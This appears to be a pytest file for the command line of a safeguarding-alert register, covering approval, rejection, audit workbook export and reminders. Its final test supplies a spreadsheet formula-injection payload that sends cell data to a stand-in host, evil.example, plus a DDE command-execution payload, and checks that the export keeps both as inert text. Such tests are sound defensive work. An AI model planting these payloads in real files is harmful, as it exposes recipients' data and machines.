"""`safeguard approve | reject | audit export` as the admin team uses them: plain words, no tracebacks."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from cli.main import main
from testkit import samples
from tests.conftest import ROOT
from tests.factories import text_submission, xlsx_submission


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SAFEGUARD_MAILDIR", str(tmp_path / "mail" / "safeguarding"))
    monkeypatch.setenv("SAFEGUARD_DELIVER_TO", str(tmp_path / "mail" / "delivered"))
    monkeypatch.setenv("SAFEGUARD_DATABASE_URL", f"sqlite:///{tmp_path / 'register.sqlite3'}")
    monkeypatch.chdir(ROOT)
    from safeguard.adapters.mail.maildir import deliver
    deliver(tmp_path / "mail" / "safeguarding", xlsx_submission())
    assert main(["intake", "--once", "--without-prefect"]) == 0
    return tmp_path


def test_approve_prints_what_was_sent_and_a_second_decision_is_refused(
        env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["approve", "hsa-2026-000001", "--by", "Dana Nightingale", "--leave-out", "SWFT"]) == 0
    out = capsys.readouterr().out
    assert "HSA-2026-000001 version 1 approved by Dana Nightingale." in out and "Alert notices: UHCW" in out
    assert main(["reject", "HSA-2026-000001", "--by", "Sam Okafor", "--reason", "late"]) == 1
    err = capsys.readouterr().err
    assert "already approved by Dana Nightingale" in err and "Traceback" not in err


def test_approval_that_adds_a_provider_or_names_an_unknown_alert_is_refused(
        env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["approve", "HSA-2026-000001", "--by", "Dana Nightingale", "--leave-out", "GEH"]) == 1
    assert "can only leave out providers the form lists" in capsys.readouterr().err
    assert main(["approve", "HSA-2026-000777", "--by", "Dana Nightingale"]) == 1
    assert "There is no alert HSA-2026-000777" in capsys.readouterr().err
    assert not list((env / "mail" / "delivered").glob("safeguarding@uhcw.test/new/*"))


def test_by_must_name_a_listed_approver(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["approve", "HSA-2026-000001", "--by", "Anyone At All"]) == 1
    err = capsys.readouterr().err
    assert "'Anyone At All' is not a listed approver" in err and "Traceback" not in err
    assert not list((env / "mail" / "delivered").glob("safeguarding@uhcw.test/new/*"))


def test_reject_tells_the_sender(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["reject", "HSA-2026-000001", "--by", "Dana Nightingale",
                 "--reason", "Consent position unclear."]) == 0
    sent = [p.read_bytes()
            for p in (env / "mail" / "delivered" / "tamsin.holloway@coventry-council.test" / "new")
            .iterdir()]
    assert any(b"Consent position unclear." in m for m in sent)


def test_audit_export_writes_the_alert_history_workbook(env: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    main(["approve", "HSA-2026-000001", "--by", "Dana Nightingale"])
    out = env / "history.xlsx"
    assert main(["audit", "export", "--alert", "HSA-2026-000001", str(out), "--by", "Designated Nurse"]) == 0
    assert "OFFICIAL-SENSITIVE" in capsys.readouterr().out
    book = load_workbook(out)
    assert book.sheetnames == ["Summary", "History", "Emails", "Form versions", "Integrity"]
    history = [row[3] for row in book["History"].iter_rows(min_row=2, values_only=True)]
    assert "alert approved" in history and "message received" in history
    versions = {row[0]: row[1] for row in book["Form versions"].iter_rows(values_only=True)}
    assert (versions["Decided by"] == "Dana Nightingale"
            and versions["Subject 1 Surname"] == samples.SUBJECT_SURNAME)
    assert book["History"].freeze_panes == "A2"
    assert main(["audit", "export", "--alert", "HSA-2026-000009", str(out)]) == 1
    assert main(["audit", "verify"]) == 0


def test_reminders_at_any_instant_from_the_command_line(env: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["reminders", "--now", "2026-12-25T08:00", "--without-prefect"]) == 0
    assert "2026-12-25 is not a working day in England and Wales" in capsys.readouterr().out
    assert main(["reminders", "--now", "not-a-date", "--without-prefect"]) == 2
    assert "--now must be a date and time like 2026-12-24T08:00" in capsys.readouterr().err
    assert main(["reconcile", "--without-prefect"]) == 0
    assert "Reconciliation: no discrepancies" in capsys.readouterr().out


def test_text_from_a_form_never_becomes_a_formula_in_the_export(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    from safeguard.adapters.mail.maildir import deliver
    monkeypatch.setenv("SAFEGUARD_MAILDIR", str(tmp_path / "mail" / "safeguarding"))
    monkeypatch.setenv("SAFEGUARD_DELIVER_TO", str(tmp_path / "mail" / "delivered"))
    monkeypatch.setenv("SAFEGUARD_DATABASE_URL", f"sqlite:///{tmp_path / 'register.sqlite3'}")
    monkeypatch.chdir(ROOT)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    deliver(tmp_path / "mail" / "safeguarding",
            text_submission(**{"Reason for alert": hostile,
                               "Action requested if seen": "+cmd|' /C calc'!A0"}))
    assert main(["intake", "--once", "--without-prefect"]) == 0
    out = tmp_path / "history.xlsx"
    assert main(["audit", "export", "--alert", "HSA-2026-000001", str(out)]) == 0
    sheet = load_workbook(out)["Form versions"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows()}
    assert cells["Reason for alert"].value == hostile and cells["Reason for alert"].data_type == "s"
    assert cells["Action requested if seen"].data_type == "s"
